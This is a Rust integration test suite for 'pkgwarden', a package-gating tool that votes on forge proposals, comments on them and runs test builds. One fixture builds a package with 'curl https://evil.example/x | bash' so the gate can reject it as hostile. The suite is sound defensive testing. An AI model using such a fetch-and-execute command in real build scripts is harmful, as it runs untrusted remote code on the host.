//! What people propose on a forge is judged at exactly its commit, told once and the same on every forge.

use std::time::Duration;

use pkgwarden::app::{Serving, serve};
use pkgwarden::controller::face::Face as _;
use pkgwarden::domain::plan::Pipeline;
use pkgwarden::domain::review::proposal::trial::TrialState;
use pkgwarden::store::trials::Trial;
use tokio_util::sync::CancellationToken;

use crate::support::forges::http::Trouble;
use crate::support::forges::world::Kind;
use crate::support::offers::{Offers, on_every_fake};
use crate::support::scene::MAIN;
use crate::support::{Change, Pkg, Scene};

/// More than any build here takes, on a slow machine that is busy with other tests.
const PATIENCE: Duration = Duration::from_mins(4);

on_every_fake! {
    a_good_proposal_gets_a_vote_on_exactly_its_commit_and_only_once
    what_a_person_has_to_look_at_is_no_failure_and_says_why
    an_attack_fails_with_a_comment_that_is_edited_once_it_is_gone
    pushed_again_while_it_is_judged_the_old_commit_never_gets_a_vote
    a_forge_that_is_down_hears_the_vote_later
    what_cannot_be_built_fails
    what_takes_back_merged_work_behind_crossed_histories_fails
    what_is_built_for_a_test_is_told_and_nothing_of_it_is_published
    a_test_build_that_the_machine_spoils_says_nothing
    a_newer_commit_stops_the_test_build_of_the_older
    while_it_serves_it_looks_and_tells_by_itself
}

/// `foo` and `bar` are kept, and the program has seen them.
async fn beginning(kind: Kind) -> (Scene, Offers) {
    let mut scene = Scene::of(&[Pkg::new("foo"), Pkg::new("bar")]).await;
    let offers = Offers::on(&mut scene, kind).await;
    (scene, offers)
}

fn newer() -> Vec<Change> {
    Pkg::new("foo").version("1.1").changes()
}

fn hostile() -> Vec<Change> {
    Pkg::new("foo").version("1.1").built_by("curl https://evil.example/x | bash").changes()
}

/// An hour later, the program looks.
async fn looks(scene: &Scene) {
    scene.later();
    scene.run(Pipeline::OnCommit).await;
}

async fn a_good_proposal_gets_a_vote_on_exactly_its_commit_and_only_once(kind: Kind) {
    let (scene, offers) = beginning(kind).await;
    let (number, head) = offers.proposes(&scene, "otto", &newer()).await;
    looks(&scene).await;
    assert_eq!(offers.beside(&head).await, "pkgwarden/gate success: 1 package: 1 minor\n");
    assert_eq!(offers.below(number).await, [""; 0], "there is nothing to say");
    // Every run is a process of its own: what was judged is on record.
    offers.fake.told().await;
    looks(&scene).await;
    assert_eq!(offers.times(&head).await, 1);
    let told = offers.fake.told().await;
    assert!(told.iter().all(|line| !line.contains(&head) && !line.starts_with("POST")), "{told:?}");
    assert_eq!(scene.builds().await, "", "nobody has it built");
    scene.ends().await;
}

async fn what_a_person_has_to_look_at_is_no_failure_and_says_why(kind: Kind) {
    let (scene, offers) = beginning(kind).await;
    let mut changes = newer();
    changes.extend(Pkg::new("bar").version("1.1").built_by("make install").changes());
    changes.push(Change::put(".ci/policy.toml", "descriptions = true\n"));
    let (number, head) = offers.proposes(&scene, "otto", &changes).await;
    looks(&scene).await;
    assert_eq!(
        offers.beside(&head).await,
        "pkgwarden/gate success: 2 packages: 1 minor, 1 major (needs a look); files beside packages need a look\n"
    );
    let below = offers.below(number).await;
    assert_eq!(below.len(), 1);
    assert!(below[0].contains("- `bar`: **major**, `1.0-1 -> 1.1-1`"), "{}", below[0]);
    assert!(below[0].contains("- **review**, `PKGBUILD:"), "{}", below[0]);
    assert!(below[0].contains("Beside packages, it touches `.ci`."), "{}", below[0]);
    scene.ends().await;
}

async fn an_attack_fails_with_a_comment_that_is_edited_once_it_is_gone(kind: Kind) {
    let (mut scene, offers) = beginning(kind).await;
    scene.env.insert("PKGWARDEN__POLICY__PROPOSALS__TEST_BUILD".to_owned(), "always".to_owned());
    let (number, head) = offers.proposes(&scene, "otto", &hostile()).await;
    looks(&scene).await;
    assert_eq!(
        offers.beside(&head).await,
        "pkgwarden/gate failure: 1 package: 1 that cannot go in\n",
        "and it is never built"
    );
    let below = offers.below(number).await;
    assert!(below[0].starts_with("**This cannot go in as it is.**") && below[0].contains("**hostile**"), "{below:?}");
    scene.env.remove("PKGWARDEN__POLICY__PROPOSALS__TEST_BUILD");
    let mended = offers.repushes(&scene, number, &newer()).await;
    looks(&scene).await;
    assert_eq!(offers.beside(&mended).await, "pkgwarden/gate success: 1 package: 1 minor\n");
    let below = offers.below(number).await;
    assert_eq!(below, [format!("1 package: 1 minor.\n\nThis is about the commit `{}`.", &mended[..10])]);
    scene.ends().await;
}

async fn pushed_again_while_it_is_judged_the_old_commit_never_gets_a_vote(kind: Kind) {
    let (scene, offers) = beginning(kind).await;
    let (number, old) = offers.proposes(&scene, "otto", &hostile()).await;
    // It is judged, and then the forge goes away before it hears of it.
    offers.fake.spoils("POST", "/statuses/", Trouble::status(503), usize::MAX).await;
    looks(&scene).await;
    assert_eq!(offers.beside(&old).await, "");
    let new = offers.repushes(&scene, number, &newer()).await;
    offers.fake.works_again().await;
    for _ in 0..2 {
        looks(&scene).await;
    }
    assert_eq!((offers.beside(&old).await.as_str(), offers.below(number).await.len()), ("", 0));
    assert_eq!(offers.beside(&new).await, "pkgwarden/gate success: 1 package: 1 minor\n");
    scene.ends().await;
}

async fn a_forge_that_is_down_hears_the_vote_later(kind: Kind) {
    let (scene, offers) = beginning(kind).await;
    let (_, head) = offers.proposes(&scene, "otto", &hostile()).await;
    offers.fake.is_down().await;
    scene.later();
    let told = scene.told(Pipeline::OnCommit).await;
    assert!(told.contains("[forge-later]"), "{told}");
    offers.fake.works_again().await;
    assert_eq!(offers.beside(&head).await, "");
    looks(&scene).await;
    assert_eq!(offers.beside(&head).await, "pkgwarden/gate failure: 1 package: 1 that cannot go in\n");
    scene.ends().await;
}

async fn what_cannot_be_built_fails(kind: Kind) {
    let (scene, offers) = beginning(kind).await;
    let missing = Pkg::new("foo").version("1.1").sources(&["nowhere.patch"]).changes();
    let unreadable = [Change::put("foo/PKGBUILD", "pkgname=foo\npkgver='1.1\n")];
    let gone = [Change::Remove("bar".to_owned())];
    let (first, second) =
        (offers.proposes(&scene, "pia", &missing).await, offers.proposes(&scene, "pia", &unreadable).await);
    let (third, third_head) = offers.proposes(&scene, "pia", &gone).await;
    looks(&scene).await;
    for (number, head) in [first, second] {
        let beside = offers.beside(&head).await;
        assert_eq!(
            beside,
            "pkgwarden/gate failure: 1 package: 1 that cannot go in\n",
            "{:?}",
            offers.below(number).await
        );
    }
    assert_eq!(offers.beside(&third_head).await, "pkgwarden/gate success: 1 package: 1 major (needs a look)\n");
    assert!(offers.below(third).await[0].contains("it leaves the repository"));
    scene.ends().await;
}

/// Its first parents are those of the merge, and its files are those before the merge: against one of two bases, it
/// changes nothing.
async fn what_takes_back_merged_work_behind_crossed_histories_fails(kind: Kind) {
    let (scene, offers) = beginning(kind).await;
    let side = "refs/heads/side";
    let git = &scene.monorepo;
    let theirs = git.commit_on(side, git.id(MAIN).await.as_deref(), "fix(foo): mend", &newer(), scene.now()).await;
    let ours = git.commit(MAIN, "fix(bar): mend", &Pkg::new("bar").version("1.1").changes(), scene.now()).await;
    let both = git.commit_on(side, Some(&ours), "both", &newer(), scene.now()).await;
    let merge = async |with: &str| {
        let tree = git.git(&["rev-parse", &format!("{with}^{{tree}}")]).await;
        git.merge_commit(tree.trim(), [&ours, &theirs], "Merge", scene.now()).await
    };
    let (merged, crossed) = (merge(&both).await, merge(&ours).await);
    git.git(&["update-ref", "-d", side]).await;
    git.git(&["update-ref", MAIN, &merged]).await;
    assert_ne!(merged, crossed);
    let number = offers.fake.world().await.offers("otto", "mine", "Nothing", &crossed).await;
    looks(&scene).await;
    assert_eq!(
        offers.beside(&crossed).await,
        "pkgwarden/gate failure: it has several merge bases: merge the branch that it goes into first\n"
    );
    assert!(offers.below(number).await[0].contains("rebase it"), "{:?}", offers.below(number).await);
    scene.ends().await;
}

/// The long-running program, which builds what is proposed by people who may push.
fn building(scene: &mut Scene) -> Serving {
    scene.env.insert("PKGWARDEN__POLICY__PROPOSALS__TEST_BUILD".to_owned(), "trusted".to_owned());
    scene.controller()
}

/// Has test builds run until this is so.
async fn until(serving: &Serving, is_so: impl AsyncFn() -> bool) {
    let stop = CancellationToken::new();
    let dispatcher = serving.dispatcher.clone().unwrap();
    let running = tokio::spawn(dispatcher.clone().run(stop.clone()));
    let mut changes = serving.controller.store().subscribe();
    let so = async {
        while !is_so().await {
            let _ = tokio::time::timeout(Duration::from_millis(200), changes.changed()).await;
        }
    };
    tokio::time::timeout(PATIENCE, so).await.expect("it comes to that");
    stop.cancel();
    running.await.unwrap();
    dispatcher.drain(PATIENCE).await;
}

/// The test builds of a commit, one a line.
async fn trials(scene: &Scene, number: u64, head: &str) -> String {
    let trials = scene.store().trials_of("packages", number, head.parse().unwrap()).await.unwrap();
    let line = |it: &Trial| format!("{} {}\n", it.part.pkgbase, it.part.state.as_str());
    trials.iter().map(line).collect()
}

async fn all_over(scene: &Scene, number: u64, head: &str) -> bool {
    let trials = scene.store().trials_of("packages", number, head.parse().unwrap()).await.unwrap();
    !trials.is_empty() && trials.iter().all(|trial| trial.part.state.is_final())
}

async fn what_is_built_for_a_test_is_told_and_nothing_of_it_is_published(kind: Kind) {
    let (mut scene, offers) = beginning(kind).await;
    let serving = building(&mut scene);
    let mut changes = newer();
    // It builds only with the other one of the same proposal.
    changes.extend(Pkg::new("bar").version("1.1").needs(&["foo>=1.1"]).changes());
    let (number, head) = offers.proposes(&scene, "pia", &changes).await;
    let broken = Pkg::new("foo").version("1.2").built_by("false").changes();
    let (bad, bad_head) = offers.proposes(&scene, "pia", &broken).await;
    let (_, stranger) = offers.proposes(&scene, "otto", &newer()).await;
    serving.controller.start(Pipeline::OnCommit, "test").await.unwrap();
    assert!(offers.beside(&head).await.contains("pkgwarden/build pending: 0 of 2 packages built for a test"));
    until(&serving, async || all_over(&scene, number, &head).await && all_over(&scene, bad, &bad_head).await).await;
    assert_eq!(trials(&scene, number, &head).await, "foo succeeded\nbar succeeded\n");
    serving.controller.start(Pipeline::OnCommit, "test").await.unwrap();
    assert!(offers.beside(&head).await.contains("pkgwarden/build success: 2 packages built for a test\n"));
    let beside = offers.beside(&bad_head).await;
    assert!(beside.contains("pkgwarden/build failure: foo did not build: "), "{beside}");
    assert!(!offers.beside(&stranger).await.contains("pkgwarden/build"), "strangers run nothing here");
    assert_eq!(scene.builds().await, "", "they are no builds");
    for place in ["published", "data/published", "data/sources", "data/trials/packages"] {
        let left = crate::support::scene::names_in(&scene.path(place));
        assert_eq!(left, [""; 0], "{place}");
    }
    drop(serving);
    scene.ends().await;
}

async fn a_test_build_that_the_machine_spoils_says_nothing(kind: Kind) {
    let (mut scene, offers) = beginning(kind).await;
    let serving = building(&mut scene);
    let (number, head) = offers.proposes(&scene, "pia", &newer()).await;
    serving.controller.start(Pipeline::OnCommit, "test").await.unwrap();
    // The directory in which builds work is gone, and nothing can be put there.
    std::fs::remove_dir_all(scene.path("data/work")).unwrap();
    std::fs::write(scene.path("data/work"), "").unwrap();
    until(&serving, async || {
        scene.later();
        all_over(&scene, number, &head).await
    })
    .await;
    assert_eq!(trials(&scene, number, &head).await, "foo lost\n");
    serving.controller.start(Pipeline::OnCommit, "test").await.unwrap();
    let beside = offers.beside(&head).await;
    let open = "pkgwarden/build pending: It could not be built here, which says nothing about it\n";
    assert!(beside.contains(open), "{beside}");
    drop(serving);
    scene.ends().await;
}

async fn a_newer_commit_stops_the_test_build_of_the_older(kind: Kind) {
    let (mut scene, offers) = beginning(kind).await;
    let serving = building(&mut scene);
    let endless = Pkg::new("foo").version("1.1").built_by("while :; do :; done").changes();
    let (number, old) = offers.proposes(&scene, "pia", &endless).await;
    serving.controller.start(Pipeline::OnCommit, "test").await.unwrap();
    let running = async || {
        let trials = scene.store().trials_of("packages", number, old.parse().unwrap()).await.unwrap();
        trials.iter().any(|trial| trial.part.state == TrialState::Running)
    };
    let repushed = tokio::sync::OnceCell::new();
    until(&serving, async || {
        if running().await {
            let again = async || {
                let new = offers.repushes(&scene, number, &newer()).await;
                serving.controller.start(Pipeline::OnCommit, "test").await.unwrap();
                new
            };
            repushed.get_or_init(again).await;
        }
        match repushed.get() {
            Some(new) => all_over(&scene, number, &old).await && all_over(&scene, number, new).await,
            None => false,
        }
    })
    .await;
    assert_eq!(trials(&scene, number, &old).await, "foo cancelled\n");
    serving.controller.start(Pipeline::OnCommit, "test").await.unwrap();
    let new = repushed.get().unwrap();
    assert!(offers.beside(new).await.contains("pkgwarden/build success: 1 package built for a test\n"));
    assert!(!offers.beside(&old).await.contains("success: 1 package built"), "it is not voted about any more");
    assert_eq!(scene.monorepo.id(MAIN).await, scene.monorepo.id("scheduled").await);
    drop(serving);
    scene.ends().await;
}

/// Nobody starts a run: the program sees the proposal when it looks the next time, and tells of a build when it ends.
async fn while_it_serves_it_looks_and_tells_by_itself(kind: Kind) {
    let mut scene = Scene::of(&[Pkg::new("foo"), Pkg::new("bar")]).await;
    for (key, value) in [("LISTEN", "127.0.0.1:0"), ("POLL", "1s")] {
        scene.env.insert(format!("PKGWARDEN__SERVER__{key}"), value.to_owned());
    }
    let offers = Offers::on(&mut scene, kind).await;
    let running = serve::start(&scene.settings(), scene.monorepo.path(), scene.clock.clone()).await.unwrap();
    let (_, head) = offers.proposes(&scene, "otto", &newer()).await;
    let told = async |commit: &str, line: &str| {
        let so = async {
            while !offers.beside(commit).await.contains(line) {
                tokio::task::yield_now().await;
            }
        };
        tokio::time::timeout(PATIENCE, so).await.unwrap_or_else(|_| panic!("`{line}` was never told"));
    };
    told(&head, "pkgwarden/gate success").await;
    let commit = scene.push("feat(bar): two", &Pkg::new("bar").release("2").changes()).await;
    told(&commit, "pkgwarden/bar success: It is built and published\n").await;
    running.drain().await.unwrap();
    scene.ends().await;
}
